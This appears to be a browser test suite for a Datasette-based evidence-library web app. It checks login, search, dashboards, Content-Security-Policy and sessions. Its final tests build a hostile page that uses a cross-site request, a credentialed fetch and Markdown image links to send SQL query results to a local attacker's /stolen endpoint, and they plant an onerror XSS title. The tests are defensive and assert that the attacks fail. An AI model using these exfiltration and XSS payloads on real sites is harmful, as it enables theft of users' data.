"""The web UI as a person sees it: a real `evidence serve`, driven by headless Chromium.

One demo library with two managers and an analyst is served for the whole module, as of
31 March 2018, and one browser visits it; the attacks start servers of their own. Each step saves a full-page screenshot to build/screenshots/, to look
at after a run. Debian's chromium is used (`make test` installs it): Playwright's own browsers
are never downloaded.
"""

import contextlib
import datetime as dt
import json
import re
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from conftest import Listener, free_port
from playwright.sync_api import Page, expect, sync_playwright

from evidence.web import SETTINGS

pytestmark = pytest.mark.browser  # Chromium, driven by Playwright

PROJECT = Path(__file__).resolve().parents[1]
SCREENSHOTS = PROJECT / "build" / "screenshots"
PASSWORD = "correct horse battery"
AS_OF = "2018-03-31"
START_SECONDS = 20
CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
RATINGS = {"RED", "AMBER", "GREEN"}
PAGE_SIZE = SETTINGS["default_page_size"]


def command(*args) -> list[str]:
    """The `evidence` command installed next to this Python, as a person would run it."""
    script = Path(sys.executable).with_name("evidence")
    found = [str(script)] if script.exists() else [sys.executable, "-m", "evidence"]
    return [*found, *map(str, args)]


def evidence(*args, stdin: str | None = None) -> str:
    result = subprocess.run(
        command(*args), input=stdin, capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 0, (
        f"evidence {' '.join(map(str, args))} exited {result.returncode}\n"
        f"stdout: {result.stdout}\nstderr: {result.stderr}"
    )
    return result.stdout


@pytest.fixture(scope="module")
def library(tmp_path_factory) -> Path:
    """The demo library, with mia.manager to browse it, ex.manager to be disabled and
    ann.analyst to run SQL."""
    path = tmp_path_factory.mktemp("browser") / "evidence.db"
    evidence("demo", "--db", path)
    for name, role in (("mia.manager", "manager"), ("ex.manager", "manager"),
                       ("ann.analyst", "analyst")):  # fmt: skip
        evidence(
            "user", "add", name, "--role", role, "--password-stdin", "--db", path,
            "--by", "tester", stdin=PASSWORD + "\n",
        )  # fmt: skip
    return path


@contextlib.contextmanager
def serving(library: Path, as_of: str | None = AS_OF):
    """`evidence serve` of `library` on a free port, as of `as_of` (None: today): the
    address to visit."""
    port = free_port()
    out, err = library.with_name("serve.out"), library.with_name("serve.err")
    day = ["--as-of", as_of] if as_of else []
    with open(out, "w") as stdout, open(err, "w") as stderr:
        process = subprocess.Popen(
            command("serve", "--db", library, "--port", port, *day),
            stdout=stdout,
            stderr=stderr,
        )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + START_SECONDS
        while True:
            try:
                with urllib.request.urlopen(base + "/robots.txt", timeout=1) as answer:
                    if answer.status == 200:
                        break
            except (urllib.error.URLError, ConnectionError, TimeoutError):
                pass
            if process.poll() is not None or time.monotonic() > deadline:
                why = (
                    f"exited with code {process.returncode}"
                    if process.returncode is not None
                    else f"did not answer within {START_SECONDS} s"
                )
                pytest.fail(
                    f"evidence serve {why}, before {base}/robots.txt answered.\n"
                    f"stdout: {out.read_text()}\nstderr: {err.read_text()}"
                )
            time.sleep(0.1)
        yield base
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@pytest.fixture(scope="module")
def server(library):
    """`evidence serve` of the demo library, with accounts."""
    with serving(library) as base:
        yield base


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium")
    if not chromium:
        pytest.fail("Debian's chromium is not installed: run make test, which installs it")
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
        yield launched
        launched.close()


# Every page keeps what the browser refused under the Content-Security-Policy.
WATCH_POLICY = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


def new_page(browser) -> Page:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(10_000)
    context.add_init_script(WATCH_POLICY)
    page = context.new_page()
    page.console_refusals = []
    page.on(
        "console",
        lambda message: (
            "Content Security Policy" in message.text
            and page.console_refusals.append(message.text)
        ),
    )
    return page


def refused(page: Page) -> list[str]:
    """What the browser refused on the page shown, under its Content-Security-Policy."""
    return page.evaluate("window.refused") + page.console_refusals


def log_in(page: Page, name: str) -> None:
    """Fill in the login form the page shows, and send it."""
    page.locator("#name").fill(name)
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()


@pytest.fixture(scope="module")
def manager(browser, server):
    """A browser tab logged in as mia.manager, shared by the tests that browse."""
    page = new_page(browser)
    page.goto(server + "/-/login?next=/")
    log_in(page, "mia.manager")
    expect(page).to_have_url(server + "/")
    yield page
    page.context.close()


def shot(page: Page, name: str) -> None:
    page.screenshot(path=SCREENSHOTS / name, full_page=True)


def rows_shown(page: Page) -> int:
    """The count of rows Datasette shows above a table ("73 rows sorted by date ...")."""
    heading = page.locator("h3").filter(has_text=re.compile(r"^\s*[\d,]+ rows?\b")).first
    return int(re.match(r"\s*([\d,]+)", heading.inner_text()).group(1).replace(",", ""))


def test_logging_in_with_the_form_returns_to_the_page_asked_for(browser, server):
    page = new_page(browser)
    try:
        page.goto(server + "/evidence/evidence")
        expect(page).to_have_url(re.compile(re.escape(server + "/-/login?next=")))
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
        shot(page, "01-login.png")
        log_in(page, "mia.manager")
        expect(page).to_have_url(server + "/evidence/evidence")
        table = page.locator("table.rows-and-columns")
        expect(table).to_be_visible()
        expect(page.locator(".library-name")).to_contain_text("Fenmoor Borough Council")
        banners = page.locator(".marking-banner")
        expect(banners).to_have_count(2)
        expect(page.locator("header .marking-banner")).to_have_text("OFFICIAL-SENSITIVE")
        expect(page.locator("footer .marking-banner")).to_have_text("OFFICIAL-SENSITIVE")
        top, bottom = banners.first.bounding_box(), banners.last.bounding_box()
        assert top["y"] < 50, top
        assert bottom["y"] > table.bounding_box()["y"] + table.bounding_box()["height"]
        shot(page, "02-evidence.png")
    finally:
        page.context.close()


def test_searching_from_the_home_page_narrows_the_evidence(manager, server):
    page = manager
    page.goto(server + "/evidence/evidence")
    everything = rows_shown(page)
    page.goto(server + "/")
    page.locator("#home-search").fill("adoption")
    page.get_by_role("button", name="Search").click()
    expect(page).to_have_url(re.compile(r"/evidence/evidence\?_search=adoption"))
    expect(page.locator("#_search")).to_have_value("adoption")
    found = rows_shown(page)
    assert 0 < found < everything
    rows = page.locator("table.rows-and-columns tbody tr")
    expect(rows).to_have_count(found)
    titles = page.locator("td.col-title").all_inner_texts()
    summaries = page.locator("td.col-summary").all_inner_texts()
    assert any("adoption" in title.lower() for title in titles), titles
    # Words are matched by their stem: "adoptive" is found too.
    for title, summary in zip(titles, summaries, strict=True):
        assert "adopt" in f"{title} {summary}".lower(), title
    shot(page, "03-search.png")


def test_clicking_a_facet_value_shows_only_rows_of_that_kind(manager, server):
    page = manager
    page.goto(server + "/evidence/evidence")
    value = page.locator("#facet-kind li").first
    label, count = re.fullmatch(r"(.+?)\s+([\d,]+)", value.inner_text().strip()).groups()
    count = int(count.replace(",", ""))
    value.get_by_role("link", name=label).click()
    expect(page).to_have_url(re.compile(r"[?&]kind="))
    kind = urllib.parse.parse_qs(urllib.parse.urlsplit(page.url).query)["kind"][0]
    assert rows_shown(page) == count
    cells = page.locator("td.col-kind")
    expect(cells).to_have_count(min(count, PAGE_SIZE))
    # A kind cell shows the kind's label and, after it, the kind itself.
    assert set(page.locator("td.col-kind em").all_inner_texts()) == {kind}
    assert {text.split("\xa0")[0] for text in cells.all_inner_texts()} == {label}
    shot(page, "04-facet.png")


VEGA_CHARTS = ("per-month", "figures", "actions")


def drawing(chart: str) -> str:
    """What Vega draws a chart into, once it has drawn it."""
    return f"#chart-{chart}.vega-embed svg.marks"


METRICS = ("items", "open-actions", "overdue-actions", "below-floor")


def test_the_dashboard_draws_every_chart_under_its_content_security_policy(manager, server):
    page = manager
    page.console_refusals.clear()
    elsewhere = []

    def note(request) -> None:
        if not request.url.startswith(server + "/"):
            elsewhere.append(request.url)

    page.on("request", note)
    answer = page.goto(server + "/-/dashboards/readiness")
    assert "script-src 'self';" in answer.headers["content-security-policy"]
    for chart in VEGA_CHARTS:
        drawn = page.locator(drawing(chart))
        expect(drawn).to_be_visible()
        box = drawn.bounding_box()
        assert box["width"] > 200 and box["height"] > 100, (chart, box)
    for metric in METRICS:
        expect(page.locator(f"#chart-{metric} p")).to_have_text(re.compile(r"^\d[\d,]*$"))
    assert int(page.locator("#chart-items p").inner_text().replace(",", "")) > 0
    expect(page.locator("#card-items")).to_contain_text("Items not withdrawn")
    expect(page.locator("#chart-ratings table tbody tr")).to_have_count(7)  # the SIF areas
    expect(page.locator(".as-of")).to_have_text("Readiness and dashboard as of 31 Mar 2018")
    # A tooltip is drawn from Vega's expressions, which run without eval under the policy.
    page.locator('#chart-actions [aria-label*="status: closed; state: not overdue"]').hover()
    expect(page.locator("#vg-tooltip-element")).to_be_visible()
    expect(page.locator("#vg-tooltip-element")).to_contain_text("closed")
    shot(page, "05-dashboard.png")
    page.remove_listener("request", note)
    assert not elsewhere, f"the dashboard loaded from beyond the server: {elsewhere}"
    assert refused(page) == []


def test_no_page_breaks_the_content_security_policy(browser, server):
    """Datasette's own pages (menus, the SQL editor, facets) work with no script of
    their own in the page: the browser refuses nothing on any of them."""
    page = new_page(browser)
    try:
        page.goto(server + "/-/login")
        assert refused(page) == []
        log_in(page, "ann.analyst")
        for path in ("/", "/evidence", "/evidence/evidence", "/evidence/evidence/1", "/-/help",
                     "/evidence?sql=select+title+from+evidence", "/evidence/open_actions",
                     "/-/dashboards/readiness/figures", "/-/databases"):  # fmt: skip
            page.console_refusals.clear()
            page.goto(server + path)
            if "dashboards" in path:
                expect(page.locator(".vega-embed svg.marks")).to_be_visible()
            assert refused(page) == [], path
        # The SQL editor is drawn by CodeMirror, from a file of its own.
        page.goto(server + "/evidence?sql=select+title+from+evidence")
        expect(page.locator(".CodeMirror")).to_be_visible()
        # The menu opens and closes, by the script that closes menus.
        page.locator("details.nav-menu summary").click()
        expect(page.locator("details.nav-menu")).to_have_attribute("open", "")
        page.locator("h1").click()
        expect(page.locator("details.nav-menu")).not_to_have_attribute("open", "")
        # Column descriptions fold under one line.
        page.goto(server + "/evidence/evidence")
        expect(page.locator("details.column-help summary")).to_have_text("What each column means")
        assert refused(page) == []
    finally:
        page.context.close()


def test_the_home_page_rates_every_area_and_opens_its_evidence(manager, server):
    page = manager
    page.goto(server + "/")
    expect(page.get_by_role("heading", name="Readiness as of 31 Mar 2018")).to_be_visible()
    areas = page.locator("table.readiness tbody tr")
    assert areas.count() >= 5
    for area in areas.all():
        chip = area.locator(".rag")
        expect(chip).to_have_count(1)
        rating = chip.inner_text()
        assert rating in RATINGS, area.inner_text()
        assert f"rag-{rating.lower()}" in chip.get_attribute("class")
        expect(chip).to_be_visible()
    shot(page, "06-home.png")
    area = areas.filter(has=page.locator(".code", has_text=re.compile(r"^2\.1$")))
    link = area.locator("td.numbers a")
    held = int(re.fullmatch(r"(\d+) items?", link.inner_text()).group(1))
    link.click()
    expect(page).to_have_url(re.compile(r"/evidence/evidence_by_area\?.*area_code=2\.1"))
    assert rows_shown(page) == held
    codes = page.locator("td.col-area_code").all_inner_texts()
    assert codes and set(codes) == {"2.1"}, codes


def test_disabling_an_account_ends_its_open_session(browser, server, library):
    page = new_page(browser)
    try:
        page.goto(server + "/evidence/evidence")
        log_in(page, "ex.manager")
        expect(page).to_have_url(server + "/evidence/evidence")
        expect(page.locator("table.rows-and-columns")).to_be_visible()
        evidence("user", "disable", "ex.manager", "--db", library, "--by", "tester")
        # Sessions are read on every request, by every process of the server: the next
        # page is the login page.
        page.goto(server + "/evidence/evidence")
        expect(page).to_have_url(re.compile(re.escape(server + "/-/login?next=")))
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
        expect(page.get_by_role("status")).to_contain_text("Your session has ended")
        shot(page, "07-disabled.png")
        log_in(page, "ex.manager")
        expect(page.get_by_role("alert")).to_contain_text("do not match an account")
    finally:
        page.context.close()


def test_logging_out_from_the_menu_ends_the_session_on_the_server(browser, server):
    page = new_page(browser)
    try:
        page.goto(server + "/-/login?next=/evidence/evidence")
        log_in(page, "mia.manager")
        expect(page).to_have_url(server + "/evidence/evidence")
        kept = next(c for c in page.context.cookies() if c["name"] == "ds_actor")
        assert kept["sameSite"] == "Strict" and kept["httpOnly"]
        page.locator("details.nav-menu summary").click()
        page.get_by_role("button", name="Log out").click()
        expect(page).to_have_url(server + "/-/login")
        expect(page.locator(".message-info")).to_have_text("You have logged out.")
        shot(page, "10-logged-out.png")
        assert refused(page) == []
        # The cookie, had it been copied before, names no one now.
        page.context.add_cookies([kept])
        page.goto(server + "/evidence/evidence")
        expect(page).to_have_url(re.compile(re.escape(server + "/-/login?next=")))
    finally:
        page.context.close()


# Attacks that take a browser to show (proof.WEB_ATTACKS; the rest are in test_web_seal.py)


class Attacker(Listener):
    """A site on this computer, on a port of its own (so a browser counts it as the same
    site as the library, and sends it the library's cookies): it serves one page, and
    counts what it is asked, as a stolen title would arrive."""

    def __init__(self) -> None:
        super().__init__()
        self.target = ""

    @property
    def received(self) -> list[str]:
        """What arrived at the addresses the trap names (not the browser's favicon)."""
        return [path for path in self.asked if path.startswith("/stolen")]

    def trap(self, library_url: str) -> None:
        """A page that makes the browser ask the library for its titles, inside the
        address of an image here, in every way a page elsewhere can: an image, a frame, a
        fetch, and last, sending the whole tab there."""
        sql = (
            f"select '![x]({self.url}/stolen?d=' || group_concat(title) || ')' as x_markdown,"
            f" '<img src={self.url}/stolen-html>' as y_html from evidence"
        )
        target = self.target = library_url + "/evidence?" + urllib.parse.urlencode({"sql": sql})
        data = library_url + "/evidence.json?" + urllib.parse.urlencode({"sql": sql})
        quoted = json.dumps(target)
        self.page = f"""<!DOCTYPE html><title>Lunch menu</title>
<img src={json.dumps(target)}><iframe src={json.dumps(target)}></iframe>
<script>
fetch({json.dumps(data)}, {{credentials: "include"}})
  .then((r) => r.text()).then((t) => fetch("{self.url}/stolen-json?d=" + encodeURIComponent(t)))
  .catch(() => {{}});
setTimeout(() => {{ window.location.href = {quoted}; }}, 500);
</script>""".encode()


@pytest.fixture
def attacker():
    site = Attacker()
    yield site
    site.close()


def today(offset_days: int = 0) -> str:
    return (dt.date.today() + dt.timedelta(days=offset_days)).isoformat()


@pytest.fixture(scope="module")
def local_library(tmp_path_factory) -> Path:
    """A library with no accounts, served to whoever is at this computer: area 1's worst
    finding quotes a title that is HTML with a script in it."""
    folder = tmp_path_factory.mktemp("local")
    path = folder / "evidence.db"
    text = folder / "self-evaluation.txt"
    text.write_text("Practice is improving.\n")
    evidence("add", "audit", "--title", HOSTILE_TITLE, "--date", today(-60), "--area", "1",
             "--db", path, "--create")  # fmt: skip
    evidence("add", "child-story", "--title", "A's journey home", "--date", today(-30),
             "--area", "1", "--db", path)  # fmt: skip
    evidence("self-eval", "set", "1", "--grade", "good", "--text-file", text, "--db", path)
    evidence("action", "add", "1", "--text", "Audit again", "--ref", "R1", "--due", today(-40),
             "--on", today(-59), "--db", path)  # fmt: skip
    return path


HOSTILE_TITLE = "<img src=x onerror=document.title='PWNED'>"


@pytest.fixture(scope="module")
def local_server(local_library):
    """`evidence serve` of the library with no accounts, as of today."""
    with serving(local_library, as_of=None) as base:
        yield base


def test_attack_markdown_exfiltration(browser, server, local_server, attacker):
    # Without accounts: whoever is at this computer may run SQL.
    page = new_page(browser)
    try:
        attacker.trap(local_server)
        page.goto(attacker.url + "/")
        page.wait_for_url(re.compile(re.escape(local_server)), timeout=10_000)
        page.wait_for_load_state("networkidle")
        shot(page, "08-exfiltration-refused.png")
    finally:
        page.context.close()
    # With accounts: an analyst, logged in, visits the page elsewhere; and then, fooled,
    # pastes its link into the address bar, which no other site started: the page shows
    # the Markdown as the text it is.
    page = new_page(browser)
    try:
        page.goto(server + "/-/login")
        log_in(page, "ann.analyst")
        expect(page).to_have_url(server + "/")
        attacker.trap(server)
        page.goto(attacker.url + "/")
        page.wait_for_url(re.compile(re.escape(server)), timeout=10_000)
        page.wait_for_load_state("networkidle")
        page.console_refusals.clear()  # the trap's frame, refused by frame-ancestors
        page.goto(attacker.target)
        expect(page.locator("td.col-x_markdown")).to_contain_text(f"![x]({attacker.url}/stolen")
        page.wait_for_load_state("networkidle")
        assert page.locator("img").count() == 0
        assert refused(page) == []
    finally:
        page.context.close()
    assert attacker.received == []


def test_attack_script_in_dashboard(browser, local_server):
    page = new_page(browser)
    try:
        page.goto(local_server + "/-/dashboards/readiness")
        worst = page.locator("#chart-ratings table tbody tr").nth(1).locator("td").nth(6)
        expect(worst).to_contain_text(HOSTILE_TITLE)
        for chart in VEGA_CHARTS:
            expect(page.locator(drawing(chart))).to_be_visible()
        page.wait_for_timeout(500)
        assert page.title() == "Readiness dashboard"
        assert page.locator("#chart-ratings img, #chart-ratings script").count() == 0
        assert page.locator("img").count() == 0
        shot(page, "09-hostile-title.png")
        assert refused(page) == []
        # The home page quotes it too, as text.
        page.goto(local_server + "/")
        expect(page.locator("table.readiness")).to_contain_text(HOSTILE_TITLE)
        assert page.title() != "PWNED" and page.locator("img").count() == 0
    finally:
        page.context.close()
